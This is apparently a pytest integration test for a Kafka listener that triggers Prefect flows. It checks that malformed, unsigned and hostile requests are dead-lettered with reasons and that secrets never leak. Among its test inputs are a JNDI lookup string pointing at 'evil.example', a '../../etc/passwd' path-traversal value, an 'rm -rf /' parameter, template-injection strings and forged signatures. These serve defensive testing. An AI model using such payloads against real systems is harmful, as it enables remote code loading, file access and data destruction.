"""A corpus of malformed and hostile requests, interleaved with good ones.

Every bad message must land in the dead-letter topic with its original bytes and a
reason (plus a ``rejected`` status when its id is readable), every good one must
become a flow run with its parameters verbatim, the listener must keep running,
and no secret may appear in a status or a dead-letter header.
"""

import asyncio
import json
import os
import uuid
from collections import Counter

from prefect import get_client
from prefect.client.schemas.actions import VariableCreate
from pydantic import SecretStr

from blocks import KafkaConnection
from flows.kafka_trigger import (
    REASON_HEADER,
    REDACTED_HEADER,
    SOURCE_OFFSET_HEADER,
    SOURCE_TOPIC_HEADER,
)
from flows.registry import REDACTED
from magicflow.messages import SIGNATURE_HEADER, sign
from tests.fixtures.kafka import (
    flow_runs_named,
    produce,
    read_topic,
    running_listener,
    statuses_of,
)

SIGNING_SECRET = SecretStr("signing-secret-" + uuid.uuid4().hex)
SASL_PASSWORD = SecretStr("sasl-password-" + uuid.uuid4().hex)
TOKEN = "token-value-" + uuid.uuid4().hex
BAD_TOKEN = "bad-token-value-" + uuid.uuid4().hex
VARIABLE_VALUE = "variable-value-" + uuid.uuid4().hex
MAX_MESSAGE_BYTES = 64_000


def _json(document: object) -> bytes:
    return json.dumps(document).encode()


def _dead_letter_copy(value: bytes | None) -> bytes | None:
    """What the DLQ should hold: the original, with secret parameter values masked."""
    if value is None or not any(t.encode() in value for t in (TOKEN, BAD_TOKEN)):
        return value
    document = json.loads(value)
    document["parameters"]["token"] = REDACTED
    return json.dumps(document).encode()


def _corpus(prefix: str, kafka: KafkaConnection, variable: str):
    """(value, headers, expected reason fragment or None for a good request, id if readable)."""

    def rid(name: str) -> str:
        return f"{prefix}-{name}"

    def req(name: str, workflow: str = "greet", **fields: object) -> tuple[str, bytes]:
        document = {"id": rid(name), "workflow": workflow, "parameters": {"name": "ada"}, **fields}
        return rid(name), _json(document)

    cases = []

    def good(name: str, **fields: object) -> None:
        request_id, value = req(name, **fields)
        cases.append((value, None, None, request_id))

    def bad(value: bytes | None, reason: str, request_id: str | None = None, headers=None) -> None:
        cases.append((value, headers, reason, request_id))

    def bad_request(
        name: str, reason: str, workflow: str = "greet", readable: bool = True, **fields
    ):
        request_id, value = req(name, workflow, **fields)
        bad(value, reason, request_id if readable else None)

    good("plain")
    bad(os.urandom(48) + b"\xff", "not UTF-8")
    bad(b"\xff\xfe" + req("bad-utf8")[1], "not UTF-8")
    bad(b"", "not JSON")
    bad(None, "empty message")
    bad(b"[" * 5000 + b"]" * 5000, "nested deeper")
    good("template-jinja", parameters={"name": "{{ prefect.variables." + variable + " }}"})
    bad_request(
        "deep-params", "nested deeper", parameters={"name": json.loads("[" * 40 + "]" * 40)}
    )
    bad_request(
        "oversized", "exceeds", readable=False, parameters={"name": "x" * MAX_MESSAGE_BYTES}
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": 1e999}}'
        % rid("inf").encode(),
        "out of range",
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": %s}}'
        % (rid("bigint").encode(), b"9" * 5000),
        "integer longer",
    )
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "a", "times": NaN}}'
        % rid("nan").encode(),
        "NaN",
    )
    good("template-jndi", parameters={"name": "${jndi:ldap://evil.example/a}", "times": 2})
    bad(b"[]", "JSON object")
    bad(b'"just a string"', "JSON object")
    bad(b"42", "JSON object")
    bad(b"null", "JSON object")
    bad(
        _json({"workflow": "greet", "parameters": {"name": "x"}, "n": prefix}), "id: Field required"
    )
    bad(_json({"id": rid("no-workflow")}), "workflow: Field required", rid("no-workflow"))
    bad(
        _json({"id": 12345, "workflow": "greet", "n": prefix}), "id: Input should be a valid string"
    )
    bad_request("params-list", "parameters", parameters=["ada"])
    bad_request("dry-run-string", "dry_run", dry_run="yes please")
    bad_request("extra-field", "evil: Extra inputs are not permitted", evil=True)
    good("dry-run", dry_run=True)
    bad_request("unknown-workflow", "not a registered workflow", workflow="rm-rf-everything")
    bad_request("bad-workflow-name", "workflow", workflow="../../etc/passwd")
    bad(_json({"id": "a b/../" + prefix, "workflow": "greet"}), "id: String should match pattern")
    bad_request(
        "wrong-type",
        "times: Input should be a valid integer",
        parameters={"name": "ada", "times": "many"},
    )
    bad_request("missing-param", "name: Field required", parameters={"times": 2})
    bad_request(
        "unknown-param",
        "shell: Extra inputs are not permitted",
        parameters={"name": "ada", "shell": "rm -rf /"},
    )
    bad_request(
        "secret",
        "token: secret parameters cannot be sent in a request",
        workflow="rotate-token",
        parameters={"target": "api", "token": TOKEN},
    )
    bad_request(
        "hydrate-variable",
        "__prefect_kind",
        parameters={"name": {"__prefect_kind": "workspace_variable", "variable_name": variable}},
    )
    bad_request(
        "hydrate-jinja",
        "__prefect_kind",
        parameters={"name": {"__prefect_kind": "jinja", "template": "{{ 7 * 7 }}"}},
    )
    bad_request(
        "dry-run-unsupported",
        "no dry-run mode",
        workflow="rotate-token",
        dry_run=True,
        parameters={"target": "api", "token": BAD_TOKEN},
    )
    bad_request(
        "secret-invalid",
        "target: Field required",
        workflow="rotate-token",
        parameters={"token": BAD_TOKEN},
    )
    bad_request(
        "dry-run-in-params",
        "set dry_run in the request",
        parameters={"name": "ada", "dry_run": True},
    )
    bad_request("reply-to-requests", "reply_topic", readable=True, reply_topic=kafka.requests_topic)
    bad_request("nul", "NUL", parameters={"name": "a\u0000b"})
    bad(
        b'{"id": "%s", "workflow": "greet", "parameters": {"name": "\\ud800"}}'
        % rid("surrogate").encode(),
        "surrogate",
        rid("surrogate"),
    )
    bad_request("undeployed", "not-deployed not found", workflow="undeployed")
    good("last")
    # Signatures: every case above is signed with the right secret; these are not.
    request_id, value = req("unsigned")
    cases.append((value, [], "missing signature", request_id))
    request_id, value = req("wrong-secret")
    cases.append(
        (
            value,
            [(SIGNATURE_HEADER, sign(value, SecretStr("guess")).encode())],
            "bad signature",
            request_id,
        )
    )
    request_id, value = req("replayed-signature")
    other = req("other")[1]
    cases.append(
        (
            value,
            [(SIGNATURE_HEADER, sign(other, SIGNING_SECRET).encode())],
            "bad signature",
            request_id,
        )
    )
    request_id, value = req("garbage-signature")
    cases.append((value, [(SIGNATURE_HEADER, b"\xff\x00sha256=")], "bad signature", request_id))
    return cases


async def test_bad_requests_are_dead_lettered_and_good_ones_dispatched(
    kafka: KafkaConnection, kafka_test_deployments: list[str], captured_logs
) -> None:
    kafka = kafka.model_copy(
        update={"signing_secret": SIGNING_SECRET, "sasl_password": SASL_PASSWORD}
    )
    prefix = f"bad{uuid.uuid4().hex[:6]}"
    variable = f"kafka_test_{prefix}"
    async with get_client() as client:
        await client.create_variable(VariableCreate(name=variable, value=VARIABLE_VALUE))
    cases = _corpus(prefix, kafka, variable)
    bad_cases = [case for case in cases if case[2] is not None]
    good_cases = [case for case in cases if case[2] is None]
    assert len(bad_cases) >= 30
    messages = []
    for value, headers, _, _ in cases:
        if headers is None:
            headers = (
                [(SIGNATURE_HEADER, sign(value, SIGNING_SECRET).encode())]
                if value is not None
                else []
            )
        messages.append((prefix.encode() if value is None else None, value, headers))
    await produce(kafka, messages)

    async with running_listener(kafka, max_message_bytes=MAX_MESSAGE_BYTES) as listener:
        dead = await read_topic(kafka, kafka.dead_letter_topic, lambda r: len(r) >= len(bad_cases))
        runs = []
        for _ in range(60):
            runs = await flow_runs_named(prefix)
            if len(runs) >= len(good_cases):
                break
            await asyncio.sleep(0.5)
        assert not listener.stopping
        # Still listening after the corpus: one more good request goes through.
        late_id = f"{prefix}-late"
        late = _json({"id": late_id, "workflow": "greet", "parameters": {"name": "z"}})
        await produce(
            kafka, [(None, late, [(SIGNATURE_HEADER, sign(late, SIGNING_SECRET).encode())])]
        )
        statuses = await read_topic(
            kafka,
            kafka.status_topic,
            lambda r: any(
                s["request_id"] == late_id and s["state"] == "scheduled" for s in statuses_of(r)
            ),
        )
    assert listener.counts.rejected == len(bad_cases)

    # Every bad message is in the DLQ, byte for byte, with the reason and its source.
    expected_dlq = [_dead_letter_copy(case[0]) for case in bad_cases]
    assert Counter(record.value for record in dead) == Counter(expected_dlq)
    reasons = {}
    for record in dead:
        headers = {key: value.decode() for key, value in record.headers}
        assert headers[SOURCE_TOPIC_HEADER] == kafka.requests_topic
        assert int(headers[SOURCE_OFFSET_HEADER]) >= 0
        reasons[record.value] = headers[REASON_HEADER]
    for value, _, fragment, _ in bad_cases:
        copy = _dead_letter_copy(value)
        assert fragment in reasons[copy], (fragment, reasons[copy])
    masked = [r for r in dead if (REDACTED_HEADER, b"parameters.token") in list(r.headers)]
    assert len(masked) == 3  # the secret, dry-run-unsupported and secret-invalid cases

    # Readable ids get a rejected status with the same reason.
    status_list = statuses_of(statuses)
    rejected = {s["request_id"]: s["reason"] for s in status_list if s["state"] == "rejected"}
    expected_rejected = {case[3]: case[2] for case in bad_cases if case[3] is not None}
    assert set(rejected) == set(expected_rejected)
    for request_id, fragment in expected_rejected.items():
        assert fragment in rejected[request_id]

    # Every good request became one run, with its parameters verbatim (templates not rendered).
    by_name = {run.name: run for run in runs}
    assert len(runs) == len(good_cases)
    assert by_name[f"greet-{prefix}-template-jinja"].parameters == {
        "name": "{{ prefect.variables." + variable + " }}"
    }
    assert by_name[f"greet-{prefix}-template-jndi"].parameters == {
        "name": "${jndi:ldap://evil.example/a}",
        "times": 2,
    }
    assert by_name[f"greet-{prefix}-dry-run"].parameters == {"name": "ada", "dry_run": True}
    assert all(VARIABLE_VALUE not in json.dumps(run.parameters) for run in runs)

    # No secret in any status, DLQ header or DLQ value: secrets never travel in requests.
    status_bytes = b"\n".join(record.value for record in statuses)
    header_bytes = b"\n".join(value for record in dead for _, value in record.headers)
    dlq_bytes = b"\n".join(record.value or b"" for record in dead)
    for secret in (
        SIGNING_SECRET.get_secret_value(),
        SASL_PASSWORD.get_secret_value(),
        TOKEN,
        BAD_TOKEN,
    ):
        assert secret.encode() not in status_bytes
        assert secret.encode() not in header_bytes
        assert secret.encode() not in dlq_bytes
    # The listener logs counts and reasons, never payloads.
    assert "Dead-lettered" in captured_logs.text
    for secret in (
        SIGNING_SECRET.get_secret_value(),
        SASL_PASSWORD.get_secret_value(),
        TOKEN,
        BAD_TOKEN,
    ):
        assert secret not in captured_logs.text
    assert VARIABLE_VALUE.encode() not in status_bytes + header_bytes
